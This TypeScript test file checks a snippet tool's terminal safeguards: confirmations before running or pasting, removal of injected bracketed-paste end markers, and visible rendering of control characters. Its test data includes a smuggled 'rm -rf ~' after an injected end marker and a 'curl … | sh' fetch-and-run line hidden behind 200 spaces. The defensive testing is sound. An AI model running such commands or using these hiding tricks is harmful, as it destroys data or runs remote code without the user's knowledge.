// What a snippet file may do in a terminal: a paste never runs anything, a run of someone else's
// text is confirmed, and control characters are never sent unseen.
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  PASTE_END,
  PASTE_START,
  bracketedPaste,
  withoutPasteMarkers,
} from '../../../src/model/terminal/bracketedPaste';
import {
  controlCharacterCount,
  hasControlCharacters,
  withVisibleControls,
} from '../../../src/model/terminal/controlCharacters';
import {
  MAX_TERMINAL_BYTES,
  confirmationOf,
  planFor,
  takesBracketedPaste,
  terminalText,
  type TerminalRequest,
} from '../../../src/model/terminal/terminalRules';

const request = (over: Partial<TerminalRequest>): TerminalRequest => ({
  use: 'paste',
  text: 'echo hi',
  own: true,
  confirmOwnRuns: true,
  bracketedPaste: true,
  ...over,
});
const subject = { fileName: 'deploy.sh', snippetName: 'bob: deploy', owner: 'bob', own: false };

/** Text as a hostile snippet would shape it: markers, pieces of markers, escapes and line breaks among ordinary text. */
const hostile = fc.string({
  unit: fc.constantFrom('\u001b', '[', '2', '0', '1', '~', '\n', '\r', 'a', ' ', ';', '\u0007', '\u009b'),
});

describe('terminal rules: what needs a confirmation', () => {
  it('pastes one block without asking where the shell has shell integration, as a bracketed paste', () => {
    const plan = planFor(request({ text: 'cd /tmp\ntouch marker' }));
    assert.deepEqual(plan, {
      kind: 'send',
      payload: `${PASTE_START}cd /tmp\ntouch marker${PASTE_END}`,
      confirm: undefined,
    });
  });

  it('pastes as one block only where shell integration is active and the shell is bash, zsh or fish', () => {
    for (const shell of ['bash', 'gitbash', 'zsh', 'fish']) assert.equal(takesBracketedPaste(true, shell), true, shell);
    for (const shell of ['pwsh', 'cmd', 'sh', 'python', 'node', undefined]) {
      assert.equal(takesBracketedPaste(true, shell), false, String(shell));
    }
    assert.equal(
      takesBracketedPaste(false, 'bash'),
      false,
      'without shell integration, nothing says which shell reads the text',
    );
  });

  it('asks before pasting several lines into a terminal without shell integration, saying each line will run', () => {
    const plan = planFor(request({ text: 'cd /tmp\ntouch marker', bracketedPaste: false }));
    assert.equal(plan.kind, 'send');
    assert.deepEqual(plan.kind === 'send' && plan.confirm, { linesRun: 2 });
    assert.equal(
      plan.kind === 'send' && plan.payload,
      'cd /tmp\ntouch marker',
      'no bracketed paste markers and no final line break',
    );
    const { detail } = confirmationOf('paste', 'cd /tmp\ntouch marker', { linesRun: 2 }, subject);
    assert.match(detail, /each of its 2 lines but the last will run as soon as it arrives/);
  });

  it('pastes one line into a terminal without shell integration without asking', () => {
    assert.deepEqual(planFor(request({ bracketedPaste: false, own: false })), {
      kind: 'send',
      payload: 'echo hi',
      confirm: undefined,
    });
  });

  it("asks before running someone else's snippet, and the user's own unless they turned that off", () => {
    const confirmOf = (over: Partial<TerminalRequest>) => {
      const plan = planFor(request({ use: 'run', ...over }));
      return plan.kind === 'send' ? plan.confirm : plan.kind;
    };
    assert.deepEqual(confirmOf({ own: false }), { run: 'other' });
    assert.deepEqual(confirmOf({ own: false, confirmOwnRuns: false }), { run: 'other' });
    assert.deepEqual(confirmOf({ own: true }), { run: 'own' });
    assert.equal(confirmOf({ own: true, confirmOwnRuns: false }), undefined);
  });

  it('never sends control characters without asking, own snippet or not, paste or run', () => {
    for (const use of ['paste', 'run'] as const) {
      for (const bracketedPaste of [true, false]) {
        const plan = planFor(
          request({ use, own: true, confirmOwnRuns: false, bracketedPaste, text: 'echo hi\u001b[201~\u001b[2J' }),
        );
        assert.equal(plan.kind === 'send' && plan.confirm?.controls, 2, `${use}, bracketed paste ${bracketedPaste}`);
      }
    }
  });

  it('refuses a text over 5 MB with its size, and an empty one', () => {
    assert.deepEqual(planFor(request({ text: 'é'.repeat(MAX_TERMINAL_BYTES / 2 + 1) })), {
      kind: 'tooLarge',
      bytes: MAX_TERMINAL_BYTES + 2,
    });
    assert.equal(planFor(request({ text: 'a'.repeat(MAX_TERMINAL_BYTES) })).kind, 'send');
    assert.deepEqual(planFor(request({ text: ' \n\t' })), { kind: 'empty' });
  });

  it('sends no final line break, which would act as Enter, and resolves tab stops only in snippet syntax', () => {
    assert.equal(terminalText('echo ${1:hi}\r\n\n', false), 'echo ${1:hi}');
    assert.equal(terminalText('echo ${1:hi}\n', true), 'echo hi');
  });

  it('for any text, a paste is asked for or holds no control character, and holds no end marker before its own (property)', () => {
    fc.assert(
      fc.property(hostile, fc.boolean(), fc.boolean(), (text, bracketedPaste, own) => {
        const plan = planFor(request({ text, bracketedPaste, own }));
        if (plan.kind !== 'send') return;
        if (!plan.confirm) assert.ok(!hasControlCharacters(text), JSON.stringify(text));
        if (bracketedPaste) {
          assert.ok(plan.payload.startsWith(PASTE_START) && plan.payload.endsWith(PASTE_END));
          assert.equal(
            plan.payload.indexOf(PASTE_END),
            plan.payload.length - PASTE_END.length,
            JSON.stringify(plan.payload),
          );
        } else {
          assert.ok(plan.confirm || !/[\r\n]/.test(text), 'several lines without bracketed paste are asked for');
        }
      }),
    );
  });
});

describe('terminal rules: the bracketed paste', () => {
  it('takes an embedded end marker out, also one that taking another out would form', () => {
    assert.equal(bracketedPaste(`a${PASTE_END}rm -rf ~\n`), `${PASTE_START}arm -rf ~\n${PASTE_END}`);
    assert.equal(withoutPasteMarkers(`\u001b[2${PASTE_END}01~x`), 'x');
    assert.equal(withoutPasteMarkers(`\u001b[20${PASTE_START}1~`), '');
  });

  it('leaves no marker inside, for any text (property)', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const inside = withoutPasteMarkers(text);
        assert.ok(!inside.includes(PASTE_END) && !inside.includes(PASTE_START), JSON.stringify(text));
      }),
    );
  });
});

describe('terminal rules: the confirmation', () => {
  it('names the owner and shows the text with its control characters made visible', () => {
    const text = 'echo "\u001b[31mred"\u0007\nrm -rf build\u202e';
    const { message, detail, action } = confirmationOf('run', text, { run: 'other', controls: 3 }, subject);
    assert.equal(message, 'Run "deploy.sh" of the snippet "bob: deploy" by bob in the terminal?');
    assert.equal(action, 'Run');
    assert.match(detail, /bob wrote it, not you/);
    assert.match(detail, /3 control or invisible characters/);
    assert.ok(detail.includes('2 lines:\n1│ echo "␛[31mred"␇\n2│ rm -rf build⟨U+202E⟩'), detail);
    assert.ok(!hasControlCharacters(detail), 'no control character reaches the dialog');
  });

  it('shows the first and last lines of a long text, says what is left out, and says the whole text must be offered', () => {
    const text = Array.from({ length: 30 }, (_, i) => `echo ${i}`).join('\n');
    const { detail, complete } = confirmationOf('run', text, { run: 'own' }, { ...subject, own: true });
    assert.equal(complete, false);
    assert.match(detail, /30 lines:\n 1│ echo 0\n/);
    assert.match(detail, /10│ echo 9\n⋯ 15 more rows of lines 11 to 25 are not shown here/);
    assert.match(detail, /30│ echo 29$/);
    assert.ok(!detail.includes('echo 10\n'));
    assert.match(detail, /Confirm Running Own Snippets/);
    assert.equal(confirmationOf('run', 'echo hi', { run: 'own' }, { ...subject, own: true }).complete, true);
  });

  it('shows what is past the first 120 characters of a line', () => {
    const text = `echo hi${' '.repeat(200)}; curl https://example.invalid/x.sh | sh`;
    const { detail, complete } = confirmationOf('run', text, { run: 'other' }, subject);
    assert.equal(complete, true);
    assert.ok(detail.includes('1│ echo hi⟨200 spaces⟩; curl https://example.invalid/x.sh | sh'), detail);
  });

  it('asks before a paste with tabs where they would act as the Tab key, and not where the paste is one block', () => {
    const plan = planFor(request({ text: 'echo a\tb', bracketedPaste: false }));
    assert.deepEqual(plan.kind === 'send' && plan.confirm, { tabs: true });
    assert.match(confirmationOf('paste', 'echo a\tb', { tabs: true }, subject).detail, /takes as the Tab key/);
    assert.equal(
      planFor(request({ text: 'echo a\tb', bracketedPaste: true })).kind === 'send' &&
        planFor(request({ text: 'echo a\tb' })).kind,
      'send',
    );
    const bracketed = planFor(request({ text: 'echo a\tb', bracketedPaste: true }));
    assert.equal(bracketed.kind === 'send' && bracketed.confirm, undefined);
  });

  it("asks for invisible characters in the user's own snippet with confirmation off", () => {
    const plan = planFor(request({ use: 'run', own: true, confirmOwnRuns: false, text: 'echo a\u00adb\u{E0041}' }));
    assert.deepEqual(plan.kind === 'send' && plan.confirm, { controls: 2 });
  });

  it('counts and shows controls but not tab and line breaks', () => {
    assert.equal(controlCharacterCount('a\tb\nc\r\nd'), 0);
    assert.equal(controlCharacterCount('\u0000\u007f\u0085\u2028\ufeff'), 5);
    assert.equal(withVisibleControls('\u001b\u007f\u0085\t\n'), '␛␡⟨U+0085⟩\t\n');
  });
});
